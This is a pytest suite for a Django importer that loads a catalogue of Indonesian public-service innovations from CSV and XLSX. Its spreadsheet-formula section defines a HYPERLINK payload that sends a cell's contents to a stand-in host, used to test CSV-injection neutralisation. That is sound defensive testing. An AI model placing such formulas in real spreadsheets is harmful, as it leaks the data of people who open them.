"""Import of innovations from CSV and XLSX: the demo file, bad rows, atomicity, --valid-only."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.utils import translation
from openpyxl import Workbook

from lumbung.catalog import importing
from lumbung.catalog import services as catalog_services
from lumbung.catalog.importing import (
    GENERAL_UNIT_NAME,
    MODE_VALID_ONLY,
    award_level,
    guess_agency_kind,
    guess_unit_kind,
    import_innovations,
    resolve_unit_name,
)
from lumbung.catalog.models import Award, Innovation, StatusChange
from lumbung.core.models import AuditEntry
from lumbung.organisations.models import Agency, Unit
from lumbung.platform.demo import DEMO_INNOVATIONS
from lumbung.search.models import SearchDocument

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english():
    """Messages are checked in English (the msgids), whatever the Indonesian catalog says."""
    with translation.override("en"):
        yield


COLUMNS = list(importing.REQUIRED_COLUMNS)


def make_csv(*rows: dict[str, str], columns: list[str] | None = None, bom: bool = False) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns or COLUMNS, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def row(**overrides: str) -> dict[str, str]:
    base = {
        "name": "Layanan Contoh",
        "acronym_expansion": "Layanan Jemput Bola Contoh",
        "agency": "Pemerintah Kabupaten Banyuwangi",
        "unit": "Dinas Sosial",
        "year": "2019",
        "award": "",
        "sector": "social",
        "problem": "Warga sulit menjangkau layanan.",
        "solution": "Petugas datang ke desa.",
        "source_url": "https://example.org/a ; https://example.org/b",
    }
    base.update(overrides)
    return base


def counts() -> tuple[int, int, int, int, int]:
    return (
        Innovation.objects.count(),
        Agency.objects.count(),
        Unit.objects.count(),
        Award.objects.count(),
        AuditEntry.objects.count(),
    )


# --- the real demo file -------------------------------------------------------------------------
@pytest.fixture
def demo_import():
    return import_innovations(DEMO_INNOVATIONS, publish=True)


def test_demo_file_imports_every_row(demo_import):
    report = demo_import
    assert report.ok and report.written
    assert (report.rows, report.valid, report.created) == (87, 87, 87)
    assert Innovation.objects.count() == 87
    assert Innovation.objects.filter(publication_state="published").count() == 87
    assert report.published == 87
    # agencies and units were created from the rows
    assert Agency.objects.count() == len(report.agencies_created) == 60
    assert Unit.objects.count() == len(report.units_created)
    assert Unit.objects.count() > 60


def test_demo_file_agencies_get_kind_and_region(demo_import):
    assert Agency.objects.get(name="Kementerian Sosial").kind == Agency.Kind.MINISTRY
    brin = Agency.objects.get(name="Badan Riset dan Inovasi Nasional (BRIN)")
    assert (brin.kind, brin.short_name) == (Agency.Kind.AGENCY, "BRIN")
    banyuwangi = Agency.objects.get(name="Pemerintah Kabupaten Banyuwangi")
    assert (banyuwangi.kind, banyuwangi.region_id) == (Agency.Kind.REGENCY, "35.10")
    jateng = Agency.objects.get(name="Pemerintah Provinsi Jawa Tengah")
    assert (jateng.kind, jateng.region_id) == (Agency.Kind.PROVINCE, "33")
    semarang = Agency.objects.get(name="Pemerintah Kota Semarang")
    assert (semarang.kind, semarang.region_id) == (Agency.Kind.CITY, "33.74")
    # a unit inherits its agency's region
    assert Unit.objects.filter(agency=banyuwangi).first().region_id == "35.10"


def test_demo_file_sectors_and_awards_mapped(demo_import):
    by_sector = {
        code: Innovation.objects.filter(sector_id=code).count()
        for code in ("population-administration", "tax-revenue", "land-administration", "health")
    }
    assert by_sector == {
        "population-administration": 10,
        "tax-revenue": 1,
        "land-administration": 1,
        "health": 28,
    }
    assert Innovation.objects.filter(sector__isnull=True).count() == 0

    levels = {level: Award.objects.filter(level=level).count() for level in Award.Level.values}
    assert levels["top_99"] == 26
    assert levels["top_45"] == 8
    assert levels["top_40"] == 3
    assert levels["top_25"] == 1
    assert levels["unpsa"] == 5
    assert levels["top_5_replication"] == 2
    assert levels["provincial"] == 3
    assert levels["finalist"] == 1
    assert levels["other"] == 5
    assert Award.objects.count() == 54
    # the published text is kept
    p4 = Award.objects.get(innovation__name="WargaKu")
    assert p4.label == "Top P4 (Kompetisi Pengelolaan Pengaduan Pelayanan Publik)"
    assert p4.level == Award.Level.OTHER


def test_demo_file_years_sources_and_units(demo_import):
    swp = Innovation.objects.get(name="Sheltered Workshop Peduli (SWP)")
    # the year of an awarded row is the award's year, not the start year
    assert swp.start_year is None
    assert list(swp.awards.values_list("level", "year", "label")) == [("top_40", 2018, "Top 40")]
    assert swp.acronym == "SWP"
    # "…, kini Sentra Terpadu Kartini Temanggung" names the unit by its current name
    assert swp.unit.name == "Sentra Terpadu Kartini Temanggung"
    assert swp.unit.kind == Unit.Kind.SENTRA
    assert swp.source_urls.splitlines() == [
        "https://seremonia.id/umum/bbrspdi-di-temanggung-raih-top-40-pelayanan-publik",
        "https://menpan.go.id/site/berita-terkini/sheltered-workshop-peduli-wadah-pemberdayaan-penyandang-disabilitas-intelektual",
    ]
    assert swp.summary and swp.summary == swp.implementation
    assert swp.problem.startswith("Layanan bagi penyandang disabilitas intelektual")

    # no award: the year is the start year
    assert Innovation.objects.get(name="Rantang Kasih").start_year == 2017
    # the award label carries another year: that is the award's, the column's is the start year
    kurma = Innovation.objects.get(name="Kurma Lastri")
    assert kurma.start_year == 2017
    assert kurma.awards.get().year == 2019

    # a blank unit goes to the agency's clearly-named general unit
    poltabes = Innovation.objects.get(name="Poltabes")
    assert poltabes.unit.name == GENERAL_UNIT_NAME
    assert poltabes.unit.agency.name == "Pemerintah Kota Palembang"


def test_demo_import_is_audited(demo_import):
    swp = Innovation.objects.get(name="Sheltered Workshop Peduli (SWP)")
    actions = set(
        AuditEntry.objects.filter(
            object_id=str(swp.pk), content_type__model="innovation"
        ).values_list("action", flat=True)
    )
    assert {"innovation.create", "award.add", "innovation.publish"} <= actions
    assert AuditEntry.objects.filter(action="agency.create").count() == 60


def test_second_import_creates_nothing(demo_import):
    before = counts()
    again = import_innovations(DEMO_INNOVATIONS, publish=True)
    assert again.ok and again.written
    assert (again.created, again.existing) == (0, 87)
    assert again.agencies_created == [] and again.units_created == []
    assert counts() == before


# --- bad rows -----------------------------------------------------------------------------------
def test_every_bad_row_is_reported_with_line_and_reason():
    content = make_csv(
        row(name="Baik Satu"),  # line 2
        row(name=""),  # line 3
        row(name="Tanpa Instansi", agency=""),  # line 4
        row(name="Sektor Aneh", sector="astrologi"),  # line 5
        row(name="Tahun Aneh", year="20x9"),  # line 6
        row(name="Tahun Depan", year="2999"),  # line 7
        row(name="N" * 250),  # line 8
        row(name="Yayasan", agency="Yayasan Contoh Sejahtera"),  # line 9
        row(name="Alamat Aneh", source_url="bukan alamat"),  # line 10
        row(name="Baik Satu"),  # line 11: the same innovation again
    )
    report = import_innovations(content)
    assert not report.ok and not report.written
    assert report.rejected_lines == [3, 4, 5, 6, 7, 8, 9, 10, 11]
    assert (report.rows, report.valid) == (10, 1)
    by_line = {p.line: p for p in report.problems}
    assert by_line[3].column == "name" and "missing" in by_line[3].message
    assert by_line[4].column == "agency" and "missing" in by_line[4].message
    assert by_line[5].column == "sector" and "astrologi" in by_line[5].message
    assert by_line[6].column == "year" and "20x9" in by_line[6].message
    assert by_line[7].column == "year" and "2999" in by_line[7].message
    assert by_line[8].column == "name" and "200" in by_line[8].message
    assert by_line[9].column == "agency" and "type" in by_line[9].message
    assert by_line[10].column == "source_url" and "bukan alamat" in by_line[10].message
    assert "line 2" in by_line[11].message
    assert str(by_line[6]).startswith("line 6 [year]")
    # all or nothing: the good row was not written either
    assert counts() == (0, 0, 0, 0, 0)
    assert any("Nothing was written" in line for line in report.summary())


def test_unknown_column_set_rejects_the_file():
    content = make_csv({"title": "X", "owner": "Y"}, columns=["title", "owner"])
    report = import_innovations(content)
    assert report.file_rejected and not report.written
    [problem] = report.problems
    assert problem.line == 1
    assert "Missing: name" in problem.message and "source_url" in problem.message
    assert Innovation.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(b"", "empty", id="empty"),
        pytest.param("name,agency\n\xe9".encode("latin-1"), "UTF-8", id="not-utf8"),
        pytest.param(b"PK\x03\x04not really a zip", "XLSX", id="broken-xlsx"),
    ],
)
def test_unreadable_files_are_rejected(content, expected):
    report = import_innovations(content)
    assert report.file_rejected
    assert expected in report.problems[0].message
    assert report.problems[0].line is None


def test_line_numbers_follow_multiline_cells():
    content = make_csv(
        row(name="Satu", problem="baris pertama\nbaris kedua\nbaris ketiga"),  # lines 2-4
        row(name=""),  # line 5
    )
    report = import_innovations(content)
    assert report.rejected_lines == [5]


def test_row_with_more_cells_than_columns_is_rejected():
    content = make_csv(row(name="Satu")) + b"Dua,x,Pemerintah Kota Semarang,,,,,,,,EXTRA\n"
    report = import_innovations(content)
    assert report.rejected_lines == [3]
    assert "cells" in report.problems[0].message


def test_bom_and_semicolons_are_read():
    with_bom = make_csv(row(name="Dengan BOM"), bom=True)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, delimiter=";")  # as Excel saves it in id
    writer.writeheader()
    writer.writerow(row(name="Dengan BOM"))
    semicolons = ("\ufeff" + out.getvalue()).encode("utf-8")
    for content in (with_bom, semicolons):
        Innovation.objects.all().delete()
        report = import_innovations(content)
        assert report.ok, report.problems
        assert Innovation.objects.get().name == "Dengan BOM"


# --- atomicity ----------------------------------------------------------------------------------
def test_exception_half_way_writes_nothing(monkeypatch):
    real_create = catalog_services.innovation_create
    calls = {"n": 0}

    def failing_create(**kwargs):
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("disk full")
        return real_create(**kwargs)

    monkeypatch.setattr(catalog_services, "innovation_create", failing_create)
    content = make_csv(*(row(name=f"Inovasi {i}", unit=f"Dinas {i}") for i in range(5)))
    with pytest.raises(RuntimeError, match="disk full"):
        import_innovations(content, publish=True)
    assert calls["n"] == 3
    assert counts() == (0, 0, 0, 0, 0)


def test_keyboard_interrupt_half_way_writes_nothing(monkeypatch):
    def progress(stage, done, total):
        if stage == "write" and done == 2:
            raise KeyboardInterrupt

    content = make_csv(*(row(name=f"Inovasi {i}") for i in range(4)))
    with pytest.raises(KeyboardInterrupt):
        import_innovations(content, progress=progress)
    assert counts() == (0, 0, 0, 0, 0)


def test_service_refusal_half_way_writes_nothing_by_default(monkeypatch):
    real_create = catalog_services.innovation_create

    def picky_create(**kwargs):
        if kwargs["data"]["name"] == "Inovasi 2":
            raise ValidationError({"name": "refused by the service"})
        return real_create(**kwargs)

    monkeypatch.setattr(catalog_services, "innovation_create", picky_create)
    content = make_csv(*(row(name=f"Inovasi {i}") for i in range(4)))
    report = import_innovations(content)
    assert not report.written
    assert report.rejected_lines == [4]
    assert "refused by the service" in report.problems[0].message
    assert counts() == (0, 0, 0, 0, 0)

    valid_only = import_innovations(content, valid_only=True)
    assert valid_only.written and valid_only.created == 3
    assert sorted(Innovation.objects.values_list("name", flat=True)) == [
        "Inovasi 0",
        "Inovasi 1",
        "Inovasi 3",
    ]


# --- valid only ---------------------------------------------------------------------------------
def test_valid_only_writes_good_rows_and_lists_bad_ones():
    content = make_csv(
        row(name="Baik Satu", award="Top 99"),
        row(name="", agency=""),
        row(name="Baik Dua", unit=""),
        row(name="Buruk", sector="astrologi"),
    )
    report = import_innovations(content, valid_only=True)
    assert report.mode == MODE_VALID_ONLY
    assert report.written and not report.ok
    assert report.rejected_lines == [3, 5]
    assert report.created == 2 and report.awards_created == 1
    assert set(Innovation.objects.values_list("name", flat=True)) == {"Baik Satu", "Baik Dua"}
    # drafts unless --publish
    assert set(Innovation.objects.values_list("publication_state", flat=True)) == {"draft"}
    summary = " ".join(report.summary())
    assert "valid rows only" in summary
    assert "2 innovations created" in summary
    assert "2 rejected rows were NOT written" in summary


# --- spreadsheet formulas ("CSV injection") -----------------------------------------------------
HYPERLINK = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")'


def _formula_notices(report) -> list[str]:
    return [n for n in report.notices if "formula" in n]


def test_quoted_formula_cells_import_as_the_text_without_the_quote():
    """The quote an export puts before formula-looking text is removed again (round trip)."""
    content = make_csv(
        row(
            name="'" + HYPERLINK,
            acronym_expansion="'@SUM(1)",
            problem="'-2+3 warga antre",
            solution="'+1 jam layanan",
        ),
        row(name="''=1+1 dengan kutip"),  # two quotes: the text keeps one
        row(name="'Kutip biasa'"),  # a quote before other text is part of the text
    )
    report = import_innovations(content)
    assert report.ok, report.problems
    assert not _formula_notices(report)
    innovation = Innovation.objects.get(name=HYPERLINK)
    assert innovation.acronym_expansion == "@SUM(1)"
    assert innovation.problem == "-2+3 warga antre"
    assert innovation.summary == innovation.implementation == "+1 jam layanan"
    assert set(Innovation.objects.values_list("name", flat=True)) == {
        HYPERLINK,
        "'=1+1 dengan kutip",
        "'Kutip biasa'",
    }


def test_raw_formula_cells_are_imported_as_text_with_a_quote():
    """A text cell that would run as a formula is neutralised, not rejected: nothing is lost."""
    content = make_csv(
        row(name="Biasa"),  # line 2
        row(
            name=HYPERLINK,
            acronym_expansion="@SUM(1)",
            problem="-2+3 warga antre",  # "-" starts lists: left alone
            solution="+62 812 0000 layanan",
        ),  # line 3
        row(name="  =1+1 ", unit=" @Dinas Sosial"),  # line 4
    )
    report = import_innovations(content)
    assert report.ok and report.written and report.created == 3
    [notice] = _formula_notices(report)
    assert notice.startswith("Lines 3, 4:")
    innovation = Innovation.objects.get(name="'" + HYPERLINK)
    assert innovation.acronym_expansion == "'@SUM(1)"
    assert innovation.problem == "-2+3 warga antre"
    assert innovation.summary == "'+62 812 0000 layanan"
    other = Innovation.objects.get(name="'=1+1")
    assert other.unit.name == "'@Dinas Sosial"
    assert Innovation.objects.filter(name="Biasa").exists()


def test_raw_formula_notice_for_one_line_and_in_indonesian():
    content = make_csv(row(name="=1+1"))
    report = import_innovations(content)
    assert _formula_notices(report)[0].startswith("Line 2:")
    Innovation.objects.all().delete()
    with translation.override("id"):
        report = import_innovations(content)
    assert report.created == 1
    assert report.notices and not _formula_notices(report)
    assert "Baris 2" in report.notices[-1]


def test_neutralised_text_round_trips_through_the_export():
    from lumbung.catalog.exporting import export_innovations

    import_innovations(make_csv(row(name=HYPERLINK)), publish=True)
    stored = Innovation.objects.get().name
    assert stored == "'" + HYPERLINK
    out = io.BytesIO()
    export_innovations(out, fmt="csv")
    assert "''=HYPERLINK" in out.getvalue().decode("utf-8")
    Innovation.objects.all().delete()
    report = import_innovations(out.getvalue())
    assert report.ok and not _formula_notices(report)
    assert Innovation.objects.get().name == stored


def test_xlsx_text_cells_are_imported_as_they_are():
    """An XLSX cell has a type: text starting with "=" is text there, not a formula."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    values = row(name="=1+1 teks", solution="'=kutip")
    sheet.append([values[c] for c in COLUMNS])
    for cell in sheet[2]:
        cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = import_innovations(buffer.getvalue())
    assert report.ok and not _formula_notices(report)
    innovation = Innovation.objects.get()
    assert (innovation.name, innovation.summary) == ("=1+1 teks", "'=kutip")


# --- XLSX ---------------------------------------------------------------------------------------
def test_xlsx_import():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    values = row(name="Dari Excel", award="UNPSA", sector="Health")
    sheet.append([int(values[c]) if c == "year" else values[c] for c in COLUMNS])
    sheet.append([None] * len(COLUMNS))  # a blank row is skipped
    bad = row(name="Tahun Buruk")
    sheet.append([1850 if c == "year" else bad[c] for c in COLUMNS])  # line 4
    buffer = io.BytesIO()
    workbook.save(buffer)

    report = import_innovations(buffer.getvalue(), valid_only=True)
    assert report.rejected_lines == [4]
    innovation = Innovation.objects.get()
    assert innovation.name == "Dari Excel"
    assert innovation.sector_id == "health"
    award = innovation.awards.get()
    assert (award.level, award.year, award.competition) == ("unpsa", 2019, "UNPSA")


# --- permissions (for a later web upload) -------------------------------------------------------
def test_import_as_a_user_checks_permissions(world):
    content = make_csv(row(name="Baru", agency="Pemerintah Kota Baru Sekali"))
    before = counts()
    with pytest.raises(PermissionDenied):
        import_innovations(content, actor=world.officer)
    assert counts() == before

    ok = make_csv(row(name="Inovasi Kartini", agency=world.agency.name, unit=world.unit.name))
    report = import_innovations(ok, actor=world.officer)
    assert report.written and report.created == 1
    created = Innovation.objects.get(name="Inovasi Kartini")
    assert created.unit == world.unit and created.created_by == world.officer


# --- vocabularies -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("Top 99", "top_99"),
        ("Top 45", "top_45"),
        ("top 40", "top_40"),
        ("Top 25", "top_25"),
        ("Top 5 Replikasi", "top_5_replication"),
        ("UNPSA", "unpsa"),
        ("Top 30 KIPP Provinsi Sulsel 2019", "provincial"),
        ("Top 3 KIPP Provinsi", "provincial"),
        ("Finalis KIPP (15 besar)", "finalist"),
        ("IGA 2023 (inovasi unggulan)", "other"),
        ("Top P4 (17 terbaik)", "other"),
    ],
)
def test_award_levels(text, level):
    assert award_level(text) == level


@pytest.mark.parametrize(
    ("name", "kind", "region"),
    [
        ("Kementerian Sosial", "ministry", ""),
        ("Badan Nasional Penanggulangan Bencana (BNPB)", "agency", ""),
        ("Lembaga Administrasi Negara", "agency", ""),
        ("Pemerintah Provinsi Jawa Tengah", "province", "Jawa Tengah"),
        ("Pemerintah Kabupaten Banyuwangi", "regency", "Kabupaten Banyuwangi"),
        ("Pemerintah Kota Semarang", "city", "Kota Semarang"),
    ],
)
def test_agency_kind_guess(name, kind, region):
    assert guess_agency_kind(name) == (kind, region)


def test_unknown_agency_kind_and_unit_names():
    assert guess_agency_kind("Yayasan Contoh") is None
    assert guess_unit_kind("Dinas Kesehatan") == Unit.Kind.DINAS
    assert guess_unit_kind("UPTD Puskesmas Keera") == Unit.Kind.PUSKESMAS
    assert guess_unit_kind("RSUD Koja") == Unit.Kind.HOSPITAL
    assert guess_unit_kind("Sentra Wyata Guna Bandung") == Unit.Kind.SENTRA
    assert resolve_unit_name("Balai Lama, kini Sentra Baru") == "Sentra Baru"
    assert resolve_unit_name("Nama Lama", {"nama lama": "Nama Baru"}) == "Nama Baru"


def test_unit_aliases_merge_renamed_units():
    agency = Agency.objects.create(name="Kementerian Sosial", slug="kemensos", kind="ministry")
    content = make_csv(row(name="Risol", agency=agency.name, unit="Panti Lama Bekasi"))
    report = import_innovations(
        content,
        unit_aliases={"Kementerian Sosial": {"Panti Lama Bekasi": "Sentra Baru Bekasi"}},
    )
    assert report.ok
    assert Innovation.objects.get().unit.name == "Sentra Baru Bekasi"


# --- stage and status ---------------------------------------------------------------------------
STATUS_COLUMNS = [*COLUMNS, "stage", "status", "status_since", "stop_reason"]


def status_row(**overrides: str) -> dict[str, str]:
    base = row(stage="", status="", status_since="", stop_reason="")
    base.update(overrides)
    return base


def test_stage_and_status_columns_are_imported():
    content = make_csv(
        status_row(
            name="Berhenti",
            stage="development",
            status="stopped",
            status_since="2023-06-30",
            stop_reason="Anggaran tidak dilanjutkan.",
        ),
        status_row(
            name="Berjalan Sejak", stage="pelembagaan", status="berlanjut", status_since="1/3/2020"
        ),
        status_row(name="Berjalan", stage="Penciptaan", status="Continuing"),
        status_row(name="Tanpa Status"),
        columns=STATUS_COLUMNS,
    )
    report = import_innovations(content, publish=True)
    assert report.ok, report.problems
    assert report.created == 4 and report.published == 4
    by_name = {i.name: i for i in Innovation.objects.all()}

    stopped = by_name["Berhenti"]
    assert (stopped.stage, stopped.status) == ("development", "stopped")
    assert stopped.status_since == dt.date(2023, 6, 30)
    assert stopped.stop_reason == "Anggaran tidak dilanjutkan."
    [change] = StatusChange.objects.filter(innovation=stopped)
    assert (change.status, change.date, change.reason) == (
        "stopped",
        dt.date(2023, 6, 30),
        "Anggaran tidak dilanjutkan.",
    )
    assert AuditEntry.objects.filter(object_id=str(stopped.pk), action="innovation.status").exists()

    since = by_name["Berjalan Sejak"]
    assert (since.stage, since.status, since.status_since) == (
        "institutionalisation",
        "continuing",
        dt.date(2020, 3, 1),
    )
    assert StatusChange.objects.filter(innovation=since, status="continuing").count() == 1

    running = by_name["Berjalan"]
    assert (running.stage, running.status, running.status_since) == ("creation", "continuing", None)
    assert not StatusChange.objects.filter(innovation=running).exists()
    # the columns are optional: an empty cell keeps the defaults
    plain = by_name["Tanpa Status"]
    assert (plain.stage, plain.status) == ("creation", "continuing")


def test_bad_stage_and_status_cells_are_reported_and_nothing_is_written():
    future = (dt.date.today() + dt.timedelta(days=40)).isoformat()
    content = make_csv(
        status_row(name="Baik", status="stopped", status_since="2022-01-31", stop_reason="Pindah."),
        status_row(name="Status Aneh", status="istirahat"),  # line 3
        status_row(name="Tanggal Aneh", status="continuing", status_since="31 Maret"),  # 4
        status_row(name="Tanggal Depan", status="continuing", status_since=future),  # 5
        status_row(name="Tanpa Alasan", status="stopped", status_since="2022-01-31"),  # 6
        status_row(name="Tanpa Tanggal", status="stopped", stop_reason="Tidak ada dana."),  # 7
        status_row(name="Alasan Lebih", status="continuing", stop_reason="Mengapa?"),  # 8
        status_row(name="Tanggal Saja", status_since="2022-01-31"),  # 9
        status_row(
            name="Sebelum Mulai", year="2019", status="continuing", status_since="2018-12-31"
        ),  # 10
        status_row(name="Tahap Aneh", stage="uji coba"),  # 11
        status_row(name="Tanggal Mustahil", status="continuing", status_since="31/02/2022"),  # 12
        columns=STATUS_COLUMNS,
    )
    report = import_innovations(content)
    assert not report.ok and not report.written
    assert report.rejected_lines == list(range(3, 13))
    by_line = {p.line: p for p in report.problems}
    expected = {
        3: ("status", "istirahat"),
        4: ("status_since", "31 Maret"),
        5: ("status_since", "future"),
        6: ("stop_reason", "why"),
        7: ("status_since", "when"),
        8: ("stop_reason", "only for a stopped"),
        9: ("status", "needs a status"),
        10: ("status_since", "before the start year 2019"),
        11: ("stage", "uji coba"),
        12: ("status_since", "31/02/2022"),
    }
    for line, (column, words) in expected.items():
        assert by_line[line].column == column, (line, by_line[line])
        assert words in by_line[line].message, (line, by_line[line].message)
    assert str(by_line[3]).startswith("line 3 [status]")
    # all or nothing: the good row was not written either
    assert counts() == (0, 0, 0, 0, 0)
    assert not StatusChange.objects.exists()


def test_valid_only_writes_the_good_status_rows():
    content = make_csv(
        status_row(name="Baik", status="stopped", status_since="2022-01-31", stop_reason="Pindah."),
        status_row(name="Buruk", status="stopped"),
        columns=STATUS_COLUMNS,
    )
    report = import_innovations(content, valid_only=True)
    assert report.written and report.rejected_lines == [3]
    assert list(Innovation.objects.values_list("name", "status")) == [("Baik", "stopped")]
    assert StatusChange.objects.count() == 1


def test_status_refused_by_the_service_half_way_writes_nothing(monkeypatch):
    def refuse(**kwargs):
        raise ValidationError({"date": "refused"})

    monkeypatch.setattr(catalog_services, "innovation_record_status", refuse)
    content = make_csv(
        status_row(name="Satu"),
        status_row(name="Dua", status="continuing", status_since="2022-01-31"),
        columns=STATUS_COLUMNS,
    )
    report = import_innovations(content)
    assert not report.written and report.rejected_lines == [3]
    assert counts() == (0, 0, 0, 0, 0)


def test_the_import_page_lists_the_stage_and_status_columns():
    from lumbung.catalog.import_kinds import INNOVATIONS

    optional = {c.name for c in INNOVATIONS.columns if not c.required}
    assert {"stage", "status", "status_since", "stop_reason"} <= optional
    # the example file's row has a cell for every column and passes the check
    header = [c.name for c in INNOVATIONS.columns]
    assert all(len(example) == len(header) for example in INNOVATIONS.example)
    content = make_csv(
        *(dict(zip(header, r, strict=True)) for r in INNOVATIONS.example), columns=header
    )
    Agency.objects.create(name="Kementerian Sosial", slug="kemensos", kind="ministry")
    report, rows = importing.check_rows(content)
    assert report.ok, report.problems
    assert (rows[0].status, rows[0].data["stage"]) == ("continuing", "development")


# --- the planner's statistics after a bulk import -----------------------------------------------
def _planner_rows(table: str) -> float:
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT reltuples FROM pg_class WHERE relname = %s", [table])
        return float(cursor.fetchone()[0])


def test_a_bulk_import_refreshes_the_planner_statistics(monkeypatch):
    """After an import of many rows the planner knows the catalog's and the search index's new
    size (PostgreSQL; on SQLite nothing is done) — a small import leaves them to autovacuum."""
    from django.db import connection

    from lumbung.core import dbstats

    rows = [row(name=f"Layanan Impor Massal {i}", unit=f"Dinas Uji {i}") for i in range(4)]
    monkeypatch.setattr(dbstats, "BULK_ROWS", 5)
    calls: list[tuple[set[str], bool]] = []
    real = dbstats.refresh

    def refresh(models, **kwargs):
        done = real(models, **kwargs)
        calls.append(({m._meta.db_table for m in models}, done))
        return done

    monkeypatch.setattr(dbstats, "refresh", refresh)
    assert import_innovations(make_csv(*rows[:2]), publish=True).created == 2
    assert calls and not any(done for _, done in calls)  # under BULK_ROWS: left to autovacuum
    calls.clear()
    monkeypatch.setattr(dbstats, "BULK_ROWS", 2)
    assert import_innovations(make_csv(*rows[2:]), publish=True).created == 2
    refreshed = set().union(*(tables for tables, done in calls if done))
    # a rejected file writes nothing and refreshes nothing
    calls_before = list(calls)
    bad = import_innovations(make_csv(row(name="")), publish=True)
    assert not bad.written and calls == calls_before
    if connection.vendor != "postgresql":
        assert calls and not refreshed
        return
    # the catalog's tables (the importer) and the index's (its end-of-import listener)
    assert {"catalog_innovation", "organisations_unit", "search_searchdocument"} <= refreshed
    assert {"search_familymember", "search_familyband"} <= refreshed
    # ANALYZE counted every row, this transaction's own included
    assert _planner_rows("catalog_innovation") == Innovation.objects.count() == 4
    assert _planner_rows("organisations_unit") == Unit.objects.count()
    assert _planner_rows("search_searchdocument") == SearchDocument.objects.count() == 4
    # a long import refreshes the index's statistics as it grows: at 1, 2 and 4 documents
    from lumbung.search import indexing

    monkeypatch.setattr(dbstats, "BULK_ROWS", 1)
    monkeypatch.setattr(indexing, "FLUSH_BATCH", 1)
    calls.clear()
    more = [row(name=f"Layanan Tumbuh {i}", unit=f"Dinas Tumbuh {i}") for i in range(4)]
    assert import_innovations(make_csv(*more), publish=True).created == 4
    index = [done for tables, done in calls if "search_searchdocument" in tables]
    assert index == [True, True, True]
